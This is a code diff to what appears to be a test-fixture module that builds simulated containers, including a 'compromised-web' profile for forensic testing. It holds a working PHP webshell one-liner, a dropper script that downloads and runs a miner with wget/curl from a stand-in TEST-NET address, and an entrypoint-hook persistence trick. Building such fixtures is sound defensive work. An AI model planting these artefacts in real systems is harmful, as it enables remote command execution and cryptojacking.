@@ -4,12 +4,13 @@
 process, the files laid into the container's root before it starts, and a few special effects
 (a fake mining pool to connect to, a crafted /proc/net/tcp). Named profiles:
 
-- ``web``: busybox root; ``httpd`` on 0.0.0.0:8080 and a loop writing access-log lines to stdout.
-- ``compromised-web``: web, plus a miner-looking process (``/tmp/.x/kworkerds``, a static binary:
-  its comm and exe say so) holding an ESTABLISHED TCP connection to a fake pool at
-  198.51.100.7:3333 (TEST-NET-2; the pool lives in the runtime's own network namespace, so no
-  packet leaves the machine), a dropper script and the "downloaded" binary under /tmp/.x with
-  old mtimes, and a crontab entry for persistence.
+- ``web``: busybox root (the image "registry.example.com/shop/web": /docker-entrypoint.sh,
+  /var/www/index.html, an empty /docker-entrypoint.d/, all dated IMAGE_TIME); the entrypoint
+  starts ``httpd`` on 0.0.0.0:8080, sources /docker-entrypoint.d/*.sh, and loops writing
+  access-log lines to stdout (its only child besides httpd: one ``sleep 5`` at a time).
+- ``compromised-web``: web plus exactly what ``plant`` lays down (see there): the replicas of a
+  web Deployment differ only by that, and by noise (pids, start times, addresses, hostname,
+  atimes, kubelet-written /etc files, logs).
 - ``batch``: busybox root; a worker loop.
 - ``distroless``: static root; ``/app 8080`` (no sh, ps, cat, tar).
 - ``hostile``: see ``profiles_hostile``.
@@ -34,6 +35,18 @@ POOL_PORT = 3333
 # file content that is a copy of a native tool rather than literal bytes
 COPY_FCAPP = "fcapp"
 
+# when the example images were "built": the mtime of the files a profile's image adds
+IMAGE_TIME = 1700000000.0   # 2023-11-14T22:13:20Z
+
+WALLET = "4AfakeWalletAddressForTestsOnly"
+PLANT_DIR = "/tmp/.x"
+MINER_PATH = "/tmp/.x/kworkerds"
+MINER_COMM = "kworkerds"
+WEBSHELL_PATH = "/var/www/upload.php"
+HOOK_PATH = "/docker-entrypoint.d/99-healthcheck.sh"
+# appended to the miner's copy of fcapp: its sha256 is that of no file of any image
+MINER_MARK = b"\0kworkerds xmrig-6.21.0 fake build for tests\0"
+
 
 @dataclass
 class FileSpec:
@@ -47,6 +60,8 @@ class FileSpec:
     sparse_size: int | None = None    # a sparse file of that size (nothing written)
     mode: int = 0o644
     mtime: float | None = None        # seconds since the epoch; None: now
+    image: bool = False               # part of the image: laid first, its parent dirs dated IMAGE_TIME
+    append: bytes = b""               # copy_of: bytes appended to the copy
 
 
 @dataclass
@@ -73,21 +88,26 @@ def _ago(days: float) -> float:
     return time.time() - days * 86400
 
 
-def _script_file(path: str, text: str, mtime: float | None = None) -> FileSpec:
-    return FileSpec(path.encode(), text.encode(), mode=0o755, mtime=mtime)
+def _script_file(path: str, text: str, mtime: float | None = None, image: bool = False) -> FileSpec:
+    return FileSpec(path.encode(), text.encode(), mode=0o755, mtime=mtime, image=image)
 
 
 _WEB_INDEX = "<html><body><h1>shop</h1></body></html>\n"
 
+# No command substitution or other forks in the loop: a process listing of a healthy replica is
+# always sh, httpd and one sleep.
 _WEB_ENTRYPOINT = """\
 #!/bin/sh
-# web: an HTTP server and its access log on stdout
+# web: an HTTP server, the image's entrypoint hooks, and an access log on stdout
 httpd -f -p 0.0.0.0:8080 -h /var/www &
 echo "web: httpd listening on :8080"
+for hook in /docker-entrypoint.d/*.sh; do
+  [ -r "$hook" ] && . "$hook"
+done
 i=0
 while true; do
   i=$((i+1))
-  echo "10.244.0.1 - - [$(date -u '+%d/%b/%Y:%H:%M:%S +0000')] \\"GET /healthz HTTP/1.1\\" 200 2 req=$i"
+  echo "10.244.0.1 - - \\"GET /healthz HTTP/1.1\\" 200 2 req=$i"
   sleep 5
 done
 """
@@ -97,52 +117,77 @@ def _web(ctx: ProfileContext) -> ContainerSpec:
     return ContainerSpec(
         rootfs=images.BUSYBOX,
         argv=["/bin/sh", "/docker-entrypoint.sh"],
-        files=[_script_file("/docker-entrypoint.sh", _WEB_ENTRYPOINT),
-               FileSpec(b"/var/www/index.html", _WEB_INDEX.encode())])
+        files=[_script_file("/docker-entrypoint.sh", _WEB_ENTRYPOINT, IMAGE_TIME, image=True),
+               FileSpec(b"/var/www/index.html", _WEB_INDEX.encode(), mtime=IMAGE_TIME, image=True),
+               FileSpec(b"/docker-entrypoint.d", directory=True, mode=0o755, mtime=IMAGE_TIME,
+                        image=True)])
 
 
 _PAYLOAD = f"""\
 #!/bin/sh
 # dropped by a webshell: fetch the miner, hide it, persist, run it
-cd /tmp/.x || exit 1
+cd {PLANT_DIR} || exit 1
 wget -q -O kworkerds http://{POOL_ADDRESS}/x86_64 || curl -fsSL -o kworkerds http://{POOL_ADDRESS}/x86_64
 chmod +x kworkerds
-(crontab -l 2>/dev/null; echo '*/5 * * * * sh /tmp/.x/payload.sh') | crontab -
-nohup ./kworkerds -o {POOL_ADDRESS}:{POOL_PORT} -u 4AfakeWalletAddressForTestsOnly -p x -k --donate-level 1 >/dev/null 2>&1 &
+echo '{MINER_PATH} -o {POOL_ADDRESS}:{POOL_PORT} -u {WALLET} -p x -k --donate-level 1 &' > {HOOK_PATH}
+nohup ./kworkerds -o {POOL_ADDRESS}:{POOL_PORT} -u {WALLET} -p x -k --donate-level 1 >/dev/null 2>&1 &
 """
 
 _MINER_CONFIG = f"""\
 {{
   "autosave": true,
   "cpu": {{"enabled": true, "max-threads-hint": 100}},
-  "pools": [{{"url": "{POOL_ADDRESS}:{POOL_PORT}", "user": "4AfakeWalletAddressForTestsOnly",
+  "pools": [{{"url": "{POOL_ADDRESS}:{POOL_PORT}", "user": "{WALLET}",
              "pass": "x", "keepalive": true}}]
 }}
 """
 
 
-def _compromised_web(ctx: ProfileContext) -> ContainerSpec:
-    spec = _web(ctx)
+def miner_argv(host_network: bool) -> list[str]:
+    """The planted miner's command line. Under hostNetwork the pool address would be routed by
+    the host: it never dials out there."""
+    pool = [] if host_network else ["-o", f"{POOL_ADDRESS}:{POOL_PORT}"]
+    return [MINER_PATH, *pool, "-u", WALLET, "-p", "x", "-k", "--donate-level", "1"]
+
+
+@dataclass
+class Plant:
+    """What a compromise adds to a running web container, and nothing else:
+
+    - files: the webshell /var/www/upload.php, the dropper /tmp/.x/payload.sh, the miner
+      /tmp/.x/kworkerds (a static ELF whose sha256 matches no file of any image) and its
+      /tmp/.x/config.json, all dated about 3 days back, and the persistence hook
+      /docker-entrypoint.d/99-healthcheck.sh (the image's entrypoint sources *.sh there); so also
+      the new directory /tmp/.x and the mtimes of /tmp, /var/www and /docker-entrypoint.d;
+    - one process: ``argv`` (comm kworkerds, exe /tmp/.x/kworkerds, uid 0, parent the
+      container's PID 1), writing to the container's log;
+    - one connection: ESTABLISHED from the pod IP to the pool 198.51.100.7:3333 (not under
+      hostNetwork).
+    """
+    files: list[FileSpec]
+    argv: list[str]
+
+
+def plant(ctx: ProfileContext) -> Plant:
     dropped = _ago(3.2)
-    # Under hostNetwork the pool address would be routed by the host: never connect from there.
-    pool = [] if ctx.host_network else ["-o", f"{POOL_ADDRESS}:{POOL_PORT}"]
-    miner = ["/tmp/.x/kworkerds", *pool, "-u", "4AfakeWalletAddressForTestsOnly", "-p", "x",
-             "-k", "--donate-level", "1"]
-    entry = _WEB_ENTRYPOINT.replace(
-        'echo "web: httpd listening on :8080"\n',
-        'echo "web: httpd listening on :8080"\n'
-        f'{" ".join(miner)} &\n')
-    spec.files = [
-        _script_file("/docker-entrypoint.sh", entry),
-        FileSpec(b"/var/www/index.html", _WEB_INDEX.encode()),
-        FileSpec(b"/var/www/upload.php", b"<?php system($_GET['c']); ?>\n", mtime=_ago(3.3)),
-        FileSpec(b"/tmp/.x", directory=True, mode=0o755, mtime=dropped),
-        _script_file("/tmp/.x/payload.sh", _PAYLOAD, mtime=dropped),
-        FileSpec(b"/tmp/.x/kworkerds", copy_of=COPY_FCAPP, mode=0o755, mtime=dropped + 40),
-        FileSpec(b"/tmp/.x/config.json", _MINER_CONFIG.encode(), mtime=dropped + 41),
-        FileSpec(b"/var/spool/cron/crontabs/root", b"*/5 * * * * sh /tmp/.x/payload.sh\n",
-                 mode=0o600, mtime=dropped + 42),
+    argv = miner_argv(ctx.host_network)
+    files = [
+        FileSpec(WEBSHELL_PATH.encode(), b"<?php system($_GET['c']); ?>\n", mtime=dropped - 0.1 * 86400),
+        FileSpec(PLANT_DIR.encode(), directory=True, mode=0o755, mtime=dropped),
+        _script_file(f"{PLANT_DIR}/payload.sh", _PAYLOAD, mtime=dropped),
+        FileSpec(MINER_PATH.encode(), copy_of=COPY_FCAPP, append=MINER_MARK, mode=0o755,
+                 mtime=dropped + 40),
+        FileSpec(f"{PLANT_DIR}/config.json".encode(), _MINER_CONFIG.encode(), mtime=dropped + 41),
+        _script_file(HOOK_PATH, " ".join(argv) + " &\n", mtime=dropped + 42),
     ]
+    return Plant(files, argv)
+
+
+def _compromised_web(ctx: ProfileContext) -> ContainerSpec:
+    # The entrypoint sources the planted hook, which starts the miner: its third process (PID 3,
+    # after sh and httpd), as if the container had restarted after the compromise.
+    spec = _web(ctx)
+    spec.files += plant(ctx).files
     spec.needs_pool = not ctx.host_network
     return spec
 
